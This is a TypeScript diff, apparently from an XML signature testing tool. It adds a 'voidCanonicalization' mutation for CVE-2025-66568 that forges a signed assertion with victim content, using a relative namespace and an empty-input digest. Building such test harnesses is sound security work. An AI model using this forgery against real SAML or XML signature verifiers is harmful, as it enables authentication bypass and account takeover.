@@ -1,9 +1,10 @@
 /** References and transforms that do not say «exactly this element, whole»: Core 5.4.2 and 5.4.4. */
 
+import { createHash } from 'node:crypto';
 import type { Mutation, ReferencePlan } from '../protocol/types.ts';
 import { rootOf, setAttribute } from '../protocol/xml-text.ts';
 import { escapeAttribute } from '../protocol/xml.ts';
-import { edit } from './elements.ts';
+import { edit, first } from './elements.ts';
 import { eachSignature } from './signatures.ts';
 import { withVictimContent } from './victim.ts';
 
@@ -13,6 +14,18 @@ const exclusive = 'http://www.w3.org/2001/10/xml-exc-c14n#';
 /** Gives every signature these references instead of the one default one. */
 export function referencing(...references: ReferencePlan[]): Mutation {
   return { plan: (plan) => eachSignature(plan, (signature) => ({ ...signature, references })) };
+}
+
+/** A relative namespace name, for which canonicalization has no result, and the digest of no result (CVE-2025-66568). */
+export function voidCanonicalization(): Mutation {
+  const digestValue = createHash('sha256').update('').digest('base64');
+  return {
+    ...referencing({ digestValue }),
+    afterSigning: (xml, facts) => {
+      const forged = withVictimContent(xml, facts);
+      return setAttribute(forged, first(forged, 'Assertion'), 'xmlns:void', 'relative');
+    },
+  };
 }
 
 /** A second, valid Reference to an element in Extensions that has nothing to do with the assertion. */
